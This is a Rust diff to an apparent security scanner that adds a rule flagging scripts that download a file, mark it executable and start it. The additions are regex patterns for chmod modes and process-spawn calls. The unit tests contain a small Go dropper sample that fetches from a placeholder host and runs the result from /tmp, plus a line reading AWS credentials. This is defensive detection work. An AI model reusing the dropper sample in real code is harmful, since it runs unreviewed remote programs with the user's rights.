@@ -220,7 +220,64 @@ pub(crate) fn check_flow(text: &Text, out: &mut Vec<Finding>) {
     if out.len() == before && text.kind == Kind::Script {
         out.extend(secrets_gathered_in_a_sending_script(text));
     }
+    if out.len() == before && text.kind == Kind::Script {
+        out.extend(downloaded_program_started(text));
+    }
 }
+
+/// A program (in Go, Rust, Java, C#, or any language the line flow does not follow) that
+/// downloads from a host nobody vouches for, makes a file executable and starts a process:
+/// the shape of a dropper, whatever the names in between. Reported where the process starts.
+fn downloaded_program_started(text: &Text) -> Option<Finding> {
+    if !EXECUTABLE_MODE.is_match(text.text) || !SPAWN.is_match(text.text) {
+        return None;
+    }
+    let code = |l: &&str| !l.trim_start().starts_with(['#', '/', '-', '*']);
+    let (fetch, kinds) = text
+        .text
+        .lines()
+        .filter(code)
+        .map(line_sources)
+        .enumerate()
+        .find(|(_, k)| k & (UNVETTED | INSECURE) != 0)?;
+    let (start, line) = text
+        .each_line()
+        .find(|(_, l)| code(l) && SPAWN.is_match(l))?;
+    let rule = if kinds & INSECURE != 0 {
+        &DOWNLOAD_EXEC_INSECURE
+    } else {
+        &REMOTE_CODE_IN_SCRIPT
+    };
+    Some(text.finding(
+        rule,
+        Span::new(start, start + line.len()),
+        format!(
+            "starts a program in a script that downloads (line {}) and makes a file \
+             executable: `{}`",
+            fetch + 1,
+            excerpt(line)
+        ),
+        "a download saved as a program and started runs whatever that host sends, unread, \
+         with the user's rights",
+        "ship the program's source in the skill, or install it with a package manager",
+    ))
+}
+
+/// A file mode or call that makes a file executable, in any language.
+static EXECUTABLE_MODE: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(
+        r"(?i)(?-u:\b)chmod[[:space:]]+(?:[0-7]*[1357][0-7]*|[ugoa]*\+[rw]*x)|(?-u:\b)0o?7[0-7][0-7](?-u:\b)|(?-u:\b)(?:os\.chmod|os\.Chmod|set_permissions|setExecutable|fs\.chmodSync|File\.chmod)(?-u:\b)|S_IXUSR|stat\.S_IEXEC",
+    )
+    .expect("a valid executable-mode pattern")
+});
+
+/// Calls that start a process, in languages beyond the shell.
+static SPAWN: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(
+        r"(?-u:\b)exec\.Command(?:Context)?\(|(?-u:\b)Command::new\(|Runtime\.getRuntime\(\)\.exec\(|new[[:space:]]+ProcessBuilder\(|(?-u:\b)Process\.Start\(|(?-u:\b)(?:subprocess\.(?:run|Popen|call|check_call|check_output)|os\.system|os\.exec[lv]p?e?|child_process\.(?:spawn|exec|execFile)(?:Sync)?|spawnSync|execFileSync)\(",
+    )
+    .expect("a valid spawn pattern")
+});
 
 /// A script that gathers credentials (a store's file, or the whole environment) and sends to an
 /// IP address or a collecting service, with no link the line-by-line flow follows: the secrets
@@ -1145,6 +1202,8 @@ pub(super) fn compile() {
         &DYNAMIC_CODE,
         &RAW_SOCKET,
         &IPV4,
+        &EXECUTABLE_MODE,
+        &SPAWN,
     ] {
         LazyLock::force(pattern);
     }
@@ -1270,6 +1329,17 @@ mod tests {
         // Credentials used where they belong, and a send to a named service, are not.
         let aws = "creds = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://hooks.slack.com/services/T/B/x', json={'text': 'done'})\n";
         assert!(codes("notify.py", aws).is_empty());
+    }
+
+    #[test]
+    fn a_downloaded_program_started_in_any_language_is_remote_code() {
+        let go = "r, _ := http.Get(\"https://go.x.example/t\")\nb, _ := io.ReadAll(r.Body)\nos.WriteFile(\"/tmp/t\", b, 0755)\nexec.Command(\"/tmp/t\").Run()\n";
+        assert_eq!(codes("tools/main.go", go), ["SK920"]);
+        let insecure = go.replace("https://go.x.example", "http://198.51.100.7");
+        assert_eq!(codes("tools/main.go", &insecure), ["SK901"]);
+        // Data fetched and a tool of the machine started, with nothing made executable.
+        let data = "r, _ := http.Get(\"https://api.x.example/v1\")\nexec.Command(\"git\", \"status\").Run()\n";
+        assert!(codes("tools/main.go", data).is_empty());
     }
 
     #[test]
